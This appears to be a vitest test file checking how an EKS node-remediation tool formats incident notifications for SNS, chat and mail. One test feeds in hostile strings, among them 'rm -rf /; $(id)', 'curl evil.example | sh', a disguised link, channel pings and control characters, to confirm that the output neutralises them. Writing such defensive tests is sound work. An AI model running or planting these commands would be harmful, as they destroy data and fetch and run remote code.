import { describe, expect, it } from 'vitest';
import { detail } from '../../events/remediation-incident.ts';
import type { ReadRecord } from '../shared/records/record-line.ts';
import { bundle } from './bundle.ts';
import type { NewsOfSubject } from './incident.ts';
import { incidentEvent, messageOf } from './message.ts';
import { recordAt } from './record.fixture.ts';

const news = (more: Partial<ReadRecord> = {}): NewsOfSubject => ({
  phase: 'opened',
  severity: 'low',
  state: 'acted',
  record: recordAt(1, 'acted', more),
});
const workers = (count: number, more: Partial<ReadRecord> = {}): NewsOfSubject[] =>
  Array.from({ length: count }, (_, index) => news({ id: `${index}`, instance: `i-${index}`, ...more }));
const [one] = bundle([news({ hint: 'Wait.' })]);
const [many] = bundle(workers(50, { message: 'x'.repeat(1_000) }));

describe('a bundle', () => {
  it('holds what happened alike in one cluster', () => {
    const mixed = [news(), news({ nodegroup: 'api' }), news({ cluster: 'data' }), news({ reason: 'policy-attached' })];
    expect(bundle(mixed).map((group) => group.news.length)).toEqual([2, 1, 1]);
  });
});

describe('a message', () => {
  it('says in its subject who speaks, how bad it is and what happened where', () => {
    expect(messageOf(one!, 'prod').subject).toBe('[prod] low, opened: shop/web: upgrade-started');
    expect(messageOf(many!, 'prod').subject).toBe('[prod] low, opened: shop/web/i-0 and 49 more: upgrade-started');
  });

  it('has a subject that SNS takes, whatever the names', () => {
    const [odd] = bundle([news({ nodegroup: `Größe\n${'x'.repeat(200)}` })]);
    expect(messageOf(odd!, 'prod').subject).toMatch(/^[ -~]{1,99}$/);
  });

  it('has no half of a character, wherever it is cut', () => {
    for (const length of [0, 1]) {
      const [long] = bundle([news({ message: `${'x'.repeat(length)}${'😀'.repeat(2_000)}` })]);
      const { chat, mail } = messageOf(long!, 'prod');
      expect([JSON.parse(chat).content.description, mail].every((text) => text.isWellFormed())).toBe(true);
      expect(incidentEvent(long!).subjects.every(({ message }) => message.isWellFormed())).toBe(true);
    }
  });

  it('is a custom notification for chat, in the thread of its incident, within the limits', () => {
    const chat = JSON.parse(messageOf(one!, 'prod').chat);
    expect(chat).toMatchObject({
      version: '1.0',
      source: 'custom',
      content: {
        textType: 'client-markdown',
        title: '[low] shop/web: upgrade-started',
        description: 'shop/web: The node group is being upgraded from 1.35.6-20260625 to 1.35.6-20260714.',
        nextSteps: ['Wait.', 'npx eks-host-remediator explain shop/web --stack prod --region eu-central-1'],
        keywords: ['upgrade-node-groups', 'upgrade-started', 'low'],
      },
      metadata: { threadId: '1.35/AL2023_x86_64_STANDARD 1.35.6-20260714', summary: 'shop/web: upgrade-started' },
    });
    const { title, description } = JSON.parse(messageOf(many!, 'prod').chat).content;
    expect([title.length <= 250, description.length <= 8_000]).toEqual([true, true]);
  });

  it('is plain text for mail, with what to do and where to look', () => {
    const { mail } = messageOf(one!, 'prod');
    expect(mail).toMatch(
      /^shop\/web: The node group is being upgraded .*\n\n-> Wait\.\n-> npx eks-host-remediator .*\n\nphase: opened\nseverity: low\n/,
    );
    expect(mail).toContain('correlationId: 1.35/AL2023_x86_64_STANDARD 1.35.6-20260714');
  });
});

describe('a message about names and texts of others', () => {
  const pool = 'karpenter:[approve](https://evil.example) <https://evil.example|here> <!channel>\n-> rm -rf /; $(id)';
  const [odd] = bundle([
    news({ nodegroup: pool, message: `no\n-> curl evil.example | sh\u202e`, hint: '<!here>\r\nNow.' }),
  ]);
  const { chat, mail } = messageOf(odd!, 'prod');

  it('has no link whose words hide where it leads, and calls nobody, in a chat', () => {
    const { content, metadata } = JSON.parse(chat);
    for (const text of [JSON.stringify(content), JSON.stringify(metadata)]) expect(text).not.toMatch(/\]\(|<[!h]/);
  });

  it('has no line that somebody else wrote, in mail', () => {
    expect(mail.split('\n').filter((line) => line.startsWith('->'))).toEqual([
      '-> <!here>\\u000d\\u000aNow.',
      expect.stringMatching(
        /^-> npx eks-host-remediator explain 'shop\/karpenter:.*' --stack prod --region eu-central-1$/,
      ),
    ]);
    expect(mail).not.toMatch(/[^\P{C}\n]/u);
  });

  it('has room in SNS and EventBridge, however long the texts are', () => {
    const text = '"\u65e5'.repeat(100_000);
    const [long] = bundle(workers(50, { nodegroup: `self-managed:${'"'.repeat(255)}`, message: text, hint: text }));
    const { chat: inChat, mail: inMail } = messageOf(long!, 'prod');
    const message = JSON.stringify({ default: inChat, email: inMail });
    expect(Buffer.byteLength(message)).toBeLessThan(262_144);
    expect(Buffer.byteLength(JSON.stringify(incidentEvent(long!)))).toBeLessThan(262_144);
  });
});

describe('an event', () => {
  it('is as its schema says, and counts what it has no room for', () => {
    expect(detail().parse(incidentEvent(one!))).toEqual(incidentEvent(one!));
    const { subjects, moreSubjects } = detail().parse(incidentEvent(many!));
    expect([subjects.length, moreSubjects]).toEqual([20, 30]);
  });
});
